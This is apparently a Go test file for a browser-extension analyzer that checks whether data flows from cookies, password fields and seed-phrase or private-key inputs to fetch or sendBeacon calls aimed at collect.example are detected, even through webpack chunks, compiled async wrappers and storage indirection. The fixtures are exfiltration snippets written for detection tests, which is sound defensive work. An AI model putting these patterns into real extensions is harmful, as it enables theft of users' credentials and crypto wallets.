package analysis

import (
	"context"
	"testing"
	"testing/fstest"

	"github.com/extwatch/extwatch/manifests"
	"github.com/extwatch/extwatch/signatures/behavior"
)

// analyzed is the report on a package of these files.
func analyzed(t *testing.T, files map[string]string) behavior.Report {
	t.Helper()
	m, err := manifests.Parse([]byte(files["manifest.json"]))
	if err != nil {
		t.Fatal(err)
	}
	all := fstest.MapFS{}
	for name, text := range files {
		all[name] = &fstest.MapFile{Data: []byte(text)}
	}
	return Analyze(context.Background(), Input{Manifest: m, Files: all})
}

// What compilers to older JavaScript make of async functions, apart from what TestFlowsOfCompiledAsyncFunctions has.
func TestFlowsOfCompilersHelpers(t *testing.T) {
	const send = `fetch("https://collect.example/x", {body: JSON.stringify(l)})`
	const steps = `function step(g, ok, no, next, fail, key, arg) { try { var r = g[key](arg), v = r.value } catch (e) { return void no(e) }
			r.done ? ok(v) : Promise.resolve(v).then(next, fail) }
		function a(fn) { return function () { var self = this, args = arguments; return new Promise(function (ok, no) {
			var g = fn.apply(self, args); function next(v) { step(g, ok, no, next, fail, "next", v) } function fail(e) { step(g, ok, no, next, fail, "throw", e) }
			next(void 0) }) } }
		`
	const awaiter = `function w(self, args, P, make) { function adopt(v) { return v instanceof P ? v : new P(function (ok) { ok(v) }) }
		return new (P || (P = Promise))(function (ok, no) { function next(v) { try { step(make.next(v)) } catch (e) { no(e) } }
			function step(r) { r.done ? ok(r.value) : adopt(r.value).then(next, no) } step((make = make.apply(self, args || [])).next()) }) }
		`
	for name, code := range map[string]string{
		"regenerator":           steps + `a(R().mark(function n() { var l; return R().wrap(function (c) { for (;;) switch (c.prev = c.next) { case 0: return c.next = 2, chrome.cookies.getAll({}); case 2: l = c.sent; ` + send + `; case 4: case "end": return c.stop() } }, n) }))()`,
		"regenerator's result":  steps + `var get = a(R().mark(function n() { return R().wrap(function (c) { for (;;) switch (c.prev = c.next) { case 0: return c.abrupt("return", chrome.cookies.getAll({})); case 1: case "end": return c.stop() } }, n) })); get().then(function (l) { ` + send + ` })`,
		"newer regenerator":     steps + `a(r().m(function n() { var l; return r().w(function (c) { while (1) switch (c.n) { case 0: c.n = 1; return chrome.cookies.getAll({}); case 1: l = c.v; return c.a(2, ` + send + `) } }, n) }))()`,
		"one step":              steps + `a(r().m(function n() { return r().w(function (c) { for (;;) if (c.n === 0) return c.a(2, chrome.cookies.getAll({})) }, n) }))().then(function (l) { ` + send + ` })`,
		"awaiter's result":      awaiter + `function get() { return w(this, void 0, void 0, function* () { const l = yield chrome.cookies.getAll({}); return l }) } get().then(function (l) { ` + send + ` })`,
		"frozen":                `const api = Object.freeze({__proto__: null, send: (l) => { ` + send + ` }}); chrome.cookies.getAll({}, (l) => api.send(l))`,
		"a list's method":       `var q = []; chrome.cookies.getAll({}, function (c) { q.push.apply(q, c); var l = q; ` + send + ` })`,
		"a pattern, TypeScript": `function d(o, n) { var m = typeof Symbol === "function" && o[Symbol.iterator]; if (!m) return o; var i = m.call(o), r, all = []; while (n-- > 0 && !(r = i.next()).done) all.push(r.value); return all } chrome.cookies.getAll({}, function (c) { var p = d([1, c], 2), l = p[1]; ` + send + ` })`,
	} {
		t.Run(name, func(t *testing.T) {
			if r := background(t, "bg.js", code); !hasFlow(r, "cookies", "fetch", "collect.example") {
				t.Errorf("flows %+v", r.Flows)
			}
		})
	}
}

func TestFlowsThroughWebpackChunks(t *testing.T) {
	r := analyzed(t, map[string]string{
		"manifest.json": `{"manifest_version": 2, "name": "x", "version": "1", "permissions": ["cookies", "<all_urls>"], "background": {"scripts": ["runtime.js", "vendor.js", "bg.js"]}}`,
		"runtime.js":    `var m = {}, k = {}; function t(n) { var o = k[n]; if (o !== undefined) return o.exports; var e = k[n] = {exports: {}}; m[n](e, e.exports, t); return e.exports }`,
		"vendor.js":     `(self.webpackChunk = self.webpackChunk || []).push([[936], {12: function (e, t, n) { n.d(t, {A: function () { return send }}); function send(l) { fetch("https://collect.example/x", {body: JSON.stringify(l)}) } }}])`,
		"bg.js":         `(self.webpackChunk = self.webpackChunk || []).push([[471], {315: function (e, t, n) { var r = n(12); chrome.cookies.getAll({}, function (l) { (0, r.A)(l) }) }}, function (n) { n.O(0, [936], function () { return n(315) }), n.O() }])`,
	})
	if !hasFlow(r, "cookies", "fetch", "collect.example") {
		t.Errorf("flows %+v", r.Flows)
	}
}

// A file that the runtime alone names belongs to whatever brings it.
func TestChunkRunsWhereItIsBrought(t *testing.T) {
	const runtime = `var m = {}, k = {}; function t(n) { var o = k[n]; if (o !== undefined) return o.exports; var e = k[n] = {exports: {}}; m[n](e, e.exports, t); return e.exports } t.m = m; t.e = function (n) { return Promise.resolve() }; t.u = function (n) { return "bg." + n + ".chunk.js" }; var late = self.webpackChunk = self.webpackChunk || []; late.push = function (c) { for (var n in c[1]) m[n] = c[1][n] }; `
	r := analyzed(t, map[string]string{
		"manifest.json":  `{"manifest_version": 3, "name": "x", "version": "1", "permissions": ["cookies"], "background": {"service_worker": "bg.js"}}`,
		"bg.12.chunk.js": `(self.webpackChunk = self.webpackChunk || []).push([[12], {12: function (e, t, n) { n.d(t, {send: function () { return send }}); function send(l) { fetch("https://collect.example/x", {body: JSON.stringify(l)}) } }}])`,
		"bg.js":          runtime + `chrome.alarms.onAlarm.addListener(async function () { var a = await t.e(12).then(function () { return t(12) }); chrome.cookies.getAll({}, function (l) { a.send(l) }) })`,
	})
	for _, f := range r.Flows {
		if f.Source == "cookies" && f.Context == behavior.Background {
			return
		}
	}
	t.Errorf("flows %+v", r.Flows)
}

func TestFlowsOfUnbuiltCommonJS(t *testing.T) {
	r := analyzed(t, map[string]string{
		"manifest.json":           `{"manifest_version": 3, "name": "x", "version": "1", "background": {"service_worker": "dist/background.js"}, "content_scripts": [{"matches": ["https://www.okx.com/*"], "js": ["dist/content.js"]}]}`,
		"src/background/index.js": `const {post} = require("../../utils"); chrome.runtime.onMessage.addListener((m) => post(m))`,
		"src/content/index.js":    `const page = require("./page"); chrome.runtime.sendMessage(page.read())`,
		"src/content/page.js":     `exports.read = () => document.querySelector("input[type=password]").value`,
		"utils/index.js":          `module.exports = {...require("./net")}`,
		"utils/net.js":            `const HOST = require("./host"); module.exports.post = (data) => fetch(HOST.url, {method: "POST", body: JSON.stringify(data)})`,
		"utils/host.js":           `module.exports = {url: "https://collect.example/x"}`,
	})
	if !hasFlow(r, "password_field", "fetch", "collect.example") {
		t.Errorf("flows %+v", r.Flows)
	}
}

func TestFieldsOfFrameworksAndPages(t *testing.T) {
	const popup = `{"manifest_version": 3, "name": "x", "version": "1", "action": {"default_popup": "p.html"}}`
	const page = `<div id="root"></div><script src="p.js"></script>`
	const beacon = `navigator.sendBeacon("https://collect.example/x", `
	for name, tt := range map[string]struct {
		page, code, source string
	}{
		"React": {page, `function App() { const [w, set] = (0, r.useState)(""); return (0, x.jsxs)("form", {onSubmit: () => ` + beacon + `w), children: [
			(0, x.jsx)("label", {children: "Secret Recovery Phrase"}), (0, x.jsx)("textarea", {value: w, onChange: e => set(e.target.value)})]}) } root.render((0, x.jsx)(App, {}))`, "seed_input"},
		"hooks without names": {page, `function App() { const [w, set] = u(""); return h("button", {onClick: () => ` + beacon + `w)}, h("input", {placeholder: "Private key", onInput: e => set(e.target.value)})) } q(h(App, {}))`, "seed_input"},
		"a class": {page, `class F extends R.Component { constructor(p) { super(p); this.state = {v: ""}; this.on = this.on.bind(this); this.go = this.go.bind(this) }
			on(e) { this.setState({v: e.target.value}) } go() { ` + beacon + `this.state.v) } render() { return R.createElement("form", {onSubmit: this.go}, R.createElement("input", {name: "mnemonic", onChange: this.on})) } }
			root.render(R.createElement(F, {}))`, "seed_input"},
		"a library's input": {page, `function App() { const [w, set] = r.useState(""); return x.jsx(Field, {label: "12-word phrase", onChange: set, onBlur: () => ` + beacon + `w)}) } root.render(x.jsx(App, {}))`, "seed_input"},
		"another field":     {page, `function App() { const [w, set] = r.useState(""); return x.jsx("input", {placeholder: "A word or phrase", onChange: e => set(e.target.value), onBlur: () => ` + beacon + `w)}) } root.render(x.jsx(App, {}))`, ""},
		"a warning":         {page, `function App() { const [w, set] = r.useState(""); return x.jsxs("div", {children: [x.jsx("p", {children: "Never type your seed phrase here"}), x.jsx("input", {onChange: e => set(e.target.value), onBlur: () => ` + beacon + `w)})]}) } root.render(x.jsx(App, {}))`, ""},
		"placeholder":       {`<textarea id="m" placeholder="Seed phrase"></textarea>` + page, beacon + `document.getElementById("m").value)`, "seed_input"},
		"label for":         {`<label for="k">Private key</label><input id="k">` + page, beacon + `document.getElementById("k").value)`, "seed_input"},
		"label around":      {`<form id="f"><label>Secret key (Base32) <input name="k"></label></form>` + page, beacon + `new FormData(document.getElementById("f")))`, "otp_field"},
		"HTML in the code":  {page, `document.getElementById("root").innerHTML = '<h2>Enter your 12 words</h2><input class="w">'; ` + beacon + `document.querySelector(".w").value)`, "seed_input"},
	} {
		t.Run(name, func(t *testing.T) {
			r := analyzed(t, map[string]string{"manifest.json": popup, "p.html": tt.page, "p.js": tt.code})
			if tt.source != "" && !hasFlow(r, tt.source, "beacon", "collect.example") {
				t.Errorf("flows %+v", r.Flows)
			}
			if tt.source == "" && hasFlow(r, "seed_input", "beacon", "collect.example") {
				t.Errorf("flows %+v", r.Flows)
			}
		})
	}
}

// What webpack loads later runs in the context of the script that wants it, even where the runtime keeps the promise of
// the file in a table, and the compiler wraps async functions.
func TestFlowsThroughLateChunks(t *testing.T) {
	r := analyzed(t, map[string]string{
		"manifest.json": `{"manifest_version": 3, "name": "x", "version": "1", "content_scripts": [{"matches": ["<all_urls>"], "js": ["content.js"]}]}`,
		"content.js": `var m = {7: function (e, t, n) { n.d(t, {A: function () { return wrap } }); function wrap(g) { return function () { var self = this, args = arguments; return new Promise(function (ok) { var i = g.apply(self, args); function next(v) { var r = i.next(v); r.done ? ok(r.value) : Promise.resolve(r.value).then(next) } next() }) } } }}, k = {};
			function r(n) { var o = k[n]; if (o !== undefined) return o.exports; var e = k[n] = {exports: {}}; m[n](e, e.exports, r); return e.exports }
			r.d = function (e, n) { for (var t in n) Object.defineProperty(e, t, {get: n[t]}) };
			var waits = {}; r.f = {j: function (n, list) { list.push(waits[n] = new Promise(function (ok) { waits[n] = ok })) }};
			r.e = function (n) { var list = []; r.f.j(n, list); return Promise.all(list) };
			var o = r(7);
			document.addEventListener("submit", (0, o.A)(function* (e) { const s = (yield r.e(269).then(r.bind(r, 269))).ship; yield s(e.target.querySelector("input[type=password]").value) }))`,
		"chunk.js": `"use strict"; (self.webpackChunk = self.webpackChunk || []).push([[12, 269], {269: function (n, t, e) { e.r(t), e.d(t, {ship: function () { return r }}); function r(n) { navigator.sendBeacon("https://collect.example/f", n) } }}])`,
	})
	for _, f := range r.Flows {
		if f.Source == "password_field" && f.Sink == "beacon" && f.Context == behavior.Content {
			return
		}
	}
	t.Errorf("flows %+v", r.Flows)
}

// A key that is asked for before something is stored under a name that is made while it runs may be that name.
func TestFlowsThroughStorageUnderAMadeName(t *testing.T) {
	r := background(t, "bg.js", `chrome.storage.local.get("mark1", (r) => { fetch("https://collect.example/x", {method: "POST", body: JSON.stringify(r.mark1)}) });
		setTimeout(() => chrome.cookies.getAll({}, (c) => { const made = "mark" + Math.random(); chrome.storage.local.set({[made]: c}) }), 100)`)
	if !hasFlow(r, "cookies", "fetch", "collect.example") {
		t.Errorf("flows %+v", r.Flows)
	}
}
